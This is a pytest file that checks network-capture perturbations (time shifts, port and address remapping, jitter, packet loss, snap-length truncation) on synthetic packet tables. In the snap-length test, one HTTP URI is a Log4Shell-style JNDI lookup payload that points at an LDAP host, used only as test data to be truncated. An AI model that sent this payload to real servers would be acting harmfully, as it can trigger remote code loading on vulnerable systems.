"""Perturbations of recording and network conditions: each changes what it says and nothing
else, checked with pandas on the packet table (not with the perturbation's own helpers)."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from conftest import REPO
from packet_factory import BASE, handshake, packet_table, portless, tcp, udp

from tracelab.robustness.bootstrap import job_seed
from tracelab.robustness.perturbations import (
    PERTURBATIONS,
    PerturbationContext,
    gather_facts,
    perturbation,
)
from tracelab.robustness.variants import Record

CLIENT, SERVER = "198.18.0.2", "198.18.1.47"
SCHEMA = yaml.safe_load((REPO / "workflow/tracelab/schemas/config.schema.yaml").read_text())
DEFAULTS = SCHEMA["properties"]["robustness"]["properties"]


def context(name: str, table: pa.Table, folder, **params) -> PerturbationContext:
    defaults = DEFAULTS["parameters"]["properties"].get(name, {}).get("properties", {})
    path = folder / "packets.parquet"
    # Several row groups: of 7 rows, or eight of a large table (gathering 1,700 is slow).
    pq.write_table(table, path, row_group_size=max(7, table.num_rows // 8))
    return PerturbationContext(seed=job_seed(1, "t", name),
                               params={k: v["default"] for k, v in defaults.items()} | params,
                               window_s=10.0, min_coverage=0.5,
                               facts=gather_facts(path, 10.0))


@pytest.fixture
def apply(tmp_path):
    """(before, after) of a perturbation applied to rows, as pandas frames."""
    def run(name: str, rows: list[dict], **params) -> tuple[pd.DataFrame, pd.DataFrame]:
        table = packet_table(rows)
        perturbed = PERTURBATIONS[name].func(table, context(name, table, tmp_path, **params))
        return table.to_pandas(), perturbed.to_pandas()
    return run


def test_every_registered_perturbation_is_described_and_the_default_list():
    assert set(DEFAULTS["perturbations"]["default"]) <= set(PERTURBATIONS)
    config = yaml.safe_load((REPO / "config/config.yaml").read_text())["robustness"]
    assert config["perturbations"] == DEFAULTS["perturbations"]["default"]
    for name, spec in PERTURBATIONS.items():
        assert spec.name == name and len(spec.description) > 30
    with pytest.raises(ValueError, match="registered twice"):
        perturbation("hour_shift", description="again")


def sweep(seconds: float, step: float = 0.5) -> list[dict]:
    return [tcp(t, CLIENT, 40000 + i, f"198.18.2.{i % 200}", 8443, "S")
            for i, t in enumerate(np.arange(0, seconds, step))]


@pytest.mark.parametrize("name, hours", [("hour_shift", 12), ("date_shift", 24 * 100)])
def test_time_shifts_move_every_timestamp_and_nothing_else(name, hours, apply):
    before, after = apply(name, sweep(30))
    assert ((after["ts"] - before["ts"]) == pd.Timedelta(hours=hours)).all()
    pd.testing.assert_frame_equal(before.drop(columns="ts"), after.drop(columns="ts"))


@pytest.mark.parametrize("name, windows", [("first_half", [0, 1]), ("second_half", [1, 2]),
                                           ("shorter_capture", None)])
def test_cuts_keep_whole_windows(name, windows, apply):
    # 3 windows of 10 s (the last, 29.5 s - 20 s, covers more than half): halves of 2 windows.
    before, after = apply(name, sweep(30))
    window = (before["ts"] - before["ts"].min()) // pd.Timedelta(seconds=10)
    kept = set(window[before["frame"].isin(after["frame"])])
    if windows is None:  # 30% of 3 windows: one window, at a random start
        assert len(kept) == 1
    else:
        assert kept == set(windows)
    assert before[before["frame"].isin(after["frame"])]["frame"].tolist() == \
        after["frame"].tolist()


def test_names_become_addresses_only_where_the_trace_tells(apply):
    rows = [udp(0, CLIENT, 5353, "198.18.0.53", 53, protocol="DNS",
                info="Standard query response 0x1a2b A www.example.com CNAME edge.example.net "
                     "A 93.184.216.34"),
            tcp(1, CLIENT, 40000, "www.example.com", 80, "S"),
            tcp(2, CLIENT, 40001, "47.1.18.198.host.example-hosting.net", 80, "S"),
            tcp(3, CLIENT, 40002, "ip-198-18-1-9.ec2.internal", 80, "S"),
            tcp(4, CLIENT, 40003, "printer.lan", 80, "S")]
    _, after = apply("names_to_addresses", rows)
    assert after["dst"].astype(str).tolist() == ["198.18.0.53", "93.184.216.34", SERVER,
                                                  "198.18.1.9", "printer.lan"]


def test_addresses_become_names_the_trace_gives_else_reverse_dns_names(apply):
    rows = [udp(0, CLIENT, 5353, "198.18.0.53", 53, protocol="DNS",
                info="Standard query response 0x1a2b A www.example.com A 93.184.216.34"),
            tcp(1, CLIENT, 40000, "93.184.216.34", 80, "S"),
            tcp(2, "fe80::1", 40001, SERVER, 80, "S")]
    _, after = apply("addresses_to_names", rows, suffix="lab.invalid")
    assert after["dst"].astype(str).tolist() == ["53.0.18.198.lab.invalid", "www.example.com",
                                                  "47.1.18.198.lab.invalid"]
    assert after["src"].astype(str).tolist()[-1] == "fe80--1.lab.invalid"


@pytest.mark.parametrize("name, unit_ns", [("clock_us", 1_000), ("clock_ms", 1_000_000)])
def test_clock_resolution_floors_timestamps(name, unit_ns, apply):
    rows = [tcp(t, CLIENT, 40000, SERVER, 80, "A") for t in (0.000123456, 0.0015, 2.7182818)]
    before, after = apply(name, rows)
    ns = before["ts"].astype("int64")
    assert after["ts"].astype("int64").tolist() == (ns - ns % unit_ns).tolist()


def test_ephemeral_ports_are_remapped_consistently_per_connection(apply):
    rows = []
    for k, sport in enumerate((41000, 52000, 61000)):
        rows += handshake(k, CLIENT, sport, SERVER, 443)
    rows += [udp(5, CLIENT, 5353, "198.18.0.53", 53)]
    before, after = apply("ephemeral_ports", rows, lowest=1024)
    client = before["src"].astype(str) == CLIENT
    new = np.where(client, after["src_port"], after["dst_port"])
    old = np.where(client, before["src_port"], before["dst_port"])
    mapping = pd.DataFrame({"old": old, "new": new}).drop_duplicates()
    assert mapping["old"].is_unique and mapping["new"].is_unique  # one new port a connection
    assert (mapping["old"] != mapping["new"]).any() and (mapping["new"] >= 1024).all()
    server = np.where(client, after["dst_port"], after["src_port"])
    assert sorted(set(server)) == [53, 443]  # the services keep their ports


def test_snap_length_cuts_request_lines_to_the_captured_payload(apply):
    uri = "/?x=${jndi:ldap://198.18.0.2:1389/a}"  # 36 characters
    rows = [portless(0, CLIENT, SERVER, "HTTP", http_method="GET", http_uri=uri),
            portless(1, CLIENT, SERVER, "HTTP", http_method="GET", http_uri="/a"),
            portless(2, SERVER, CLIENT, "HTTP", http_version="HTTP/1.1", http_status=404),
            portless(3, SERVER, CLIENT, "TLSv1.2", tls_message="Server Hello")]
    _, after = apply("snap_length", rows, payload_bytes=30)
    # "GET " leaves 26 bytes of the URI; "GET /a HTTP/1.1" (15 bytes) fits whole.
    assert after["http_uri"].tolist()[:2] == [uri[:26], "/a"]
    assert after["http_version"].isna().tolist() == [True, False, False, True]
    assert after["http_status"].tolist()[2] == 404
    assert after["tls_message"].tolist()[3] == "Server Hello"
    _, tiny = apply("snap_length", rows, payload_bytes=4)
    assert tiny["http_method"].isna().all() and tiny["tls_message"].isna().all()
    assert tiny["http_status"].isna().all()


def test_record_counts_kept_packets_offset_and_changed_values(tmp_path):
    table = packet_table(sweep(30))
    shifted = PERTURBATIONS["hour_shift"].func(table, context("hour_shift", table, tmp_path,
                                                              hours=3))
    record = Record()
    for start in range(0, table.num_rows, 7):  # added up row group by row group
        record.add(table.slice(start, 7), shifted.slice(start, 7))
    summary = record.summary()
    assert summary["time_offset_ns"] == 3 * 3600 * 10**9
    assert summary["time_map"]["scale"] == 1.0
    assert summary["changed"]["ts"] == table.num_rows
    assert sum(summary["changed"].values()) == table.num_rows
    half = PERTURBATIONS["first_half"].func(table, context("first_half", table, tmp_path))
    record = Record()
    record.add(table, half)
    summary = record.summary()
    assert summary["packets_out"] == half.num_rows < summary["packets_in"]
    assert summary["kept_from"] == int(BASE.value) and sum(summary["changed"].values()) == 0
    with pytest.raises(ValueError, match="added packets"):
        Record().add(half, table)
    assert isinstance(shifted, pa.Table)


@pytest.mark.parametrize("name, factor", [("slower_path", 2.0), ("faster_path", 0.5)])
def test_path_speed_scales_every_gap_from_the_first_packet(name, factor, apply):
    before, after = apply(name, sweep(30, step=0.7), factor=factor)
    gaps = before["ts"].astype("int64") - before["ts"].astype("int64").min()
    moved = after["ts"].astype("int64") - after["ts"].astype("int64").min()
    assert (moved == np.round(gaps * factor).astype("int64")).all()
    pd.testing.assert_frame_equal(before.drop(columns="ts"), after.drop(columns="ts"))


def test_timing_jitter_moves_each_timestamp_within_its_bound_keeping_the_order(apply):
    rows = sweep(30, step=0.01) + [tcp(5.000001, "198.18.2.9", 8443, CLIENT, 40001, "RA")]
    before, after = apply("timing_jitter", sorted(rows, key=lambda row: row["t"]), max_ms=50)
    moved = (after["ts"] - before["ts"]).dt.total_seconds()
    assert moved.abs().max() <= 0.1 and moved.std() > 0.01  # a varying delay, not one offset
    assert after["ts"].is_monotonic_increasing  # a reply 1 us after its request stays after
    gaps = before["ts"].diff().dt.total_seconds()[1:]
    ratio = after["ts"].diff().dt.total_seconds()[1:][gaps > 0.001] / gaps[gaps > 0.001]
    assert ratio.between(0.5 - 1e-6, 1.5 + 1e-6).all() and (ratio - 1).abs().max() > 0.3
    pd.testing.assert_frame_equal(before.drop(columns="ts"), after.drop(columns="ts"))


@pytest.mark.parametrize("name, share", [("packet_loss", 0.01), ("heavy_packet_loss", 0.05)])
def test_loss_drops_about_its_share_the_same_whatever_the_row_groups(name, share, tmp_path):
    table = packet_table(sweep(600, step=0.05))  # 12,000 packets
    context_ = context(name, table, tmp_path)
    whole = PERTURBATIONS[name].func(table, context_)
    pieces = pa.concat_tables([PERTURBATIONS[name].func(table.slice(k, 999), context_)
                               for k in range(0, table.num_rows, 999)])
    assert whole.column("frame").to_pylist() == pieces.column("frame").to_pylist()
    lost = 1 - whole.num_rows / table.num_rows
    # Binomial(12000, share): within five standard deviations.
    assert abs(lost - share) <= 5 * np.sqrt(share * (1 - share) / table.num_rows)
    kept = table.to_pandas().set_index("frame").loc[whole.column("frame").to_pylist()]
    pd.testing.assert_frame_equal(kept.reset_index()[whole.schema.names], whole.to_pandas())


def test_server_addresses_renumber_servers_only_one_to_one(apply):
    rows = []
    for k, server in enumerate(("198.18.1.47", "198.18.1.48", "www.example.com")):
        rows += handshake(k, CLIENT, 41000 + k, server, 443)
    before, after = apply("server_addresses", rows, first_address="100.64.0.1")
    renamed = dict(zip(before["dst"].astype(str), after["dst"].astype(str)))
    assert renamed == {"198.18.1.47": "100.64.0.1", "198.18.1.48": "100.64.0.2",
                       "www.example.com": "www.example.com", CLIENT: CLIENT}
    assert set(after["src"].astype(str)) - set(before["src"].astype(str)) <= \
        {"100.64.0.1", "100.64.0.2"}


def test_server_ports_are_remapped_on_both_directions(apply):
    rows = handshake(0, CLIENT, 41000, SERVER, 8443) + handshake(1, CLIENT, 41001, SERVER, 22)
    before, after = apply("server_ports", rows, ports={"8443": 443})
    assert sorted(set(after["dst_port"].dropna()) | set(after["src_port"].dropna())) == \
        [22, 443, 41000, 41001]
    assert (after["src_port"] == before["src_port"].replace(8443, 443)).all()
